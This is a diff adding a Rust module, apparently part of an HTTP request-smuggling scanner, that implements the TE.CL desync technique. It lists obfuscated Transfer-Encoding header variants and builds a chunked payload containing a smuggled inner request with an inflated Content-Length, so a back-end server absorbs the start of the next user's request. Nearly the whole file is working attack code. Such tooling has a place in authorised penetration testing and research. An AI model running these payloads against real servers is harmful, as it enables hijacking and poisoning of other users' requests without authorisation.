@@ -0,0 +1,36 @@
+use crate::modules::smuggle::{SmuggleTask, Variant};
+
+/// The front end honors Transfer-Encoding while the back end falls back to Content-Length.
+pub struct TeCl;
+
+pub type TeClTask = SmuggleTask<TeCl>;
+
+impl Variant for TeCl {
+    const MODULE: &'static str = "TeCl";
+    const TECHNIQUE: &'static str = "TE.CL";
+    const SMUGGLE_METHOD: &'static str = "TRACE";
+    const TE_HEADERS: &'static [&'static str] = &[
+        "Transfer-Encoding: chunked",
+        "Transfer-Encoding : chunked",
+        "Transfer-Encoding:\tchunked",
+        "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
+    ];
+    const TIMED: bool = true;
+
+    fn body(method: &str, path: &str) -> (String, usize) {
+        // The smuggled request declares a body longer than what follows it, so the back end
+        // swallows the start of the next request and answers it with the smuggled request's response.
+        let smug = format!(
+            "\
+            {method} {path} HTTP/1.1\r\n\
+            Content-Type: application/x-www-form-urlencoded\r\n\
+            Content-Length: 15\r\n\
+            \r\n\
+            x=1"
+        );
+        let chunk_size = format!("{:x}", smug.len());
+        // A CL-honoring back end stops right after the chunk-size line.
+        let len = chunk_size.len() + 2;
+        (format!("{chunk_size}\r\n{smug}\r\n0\r\n\r\n"), len)
+    }
+}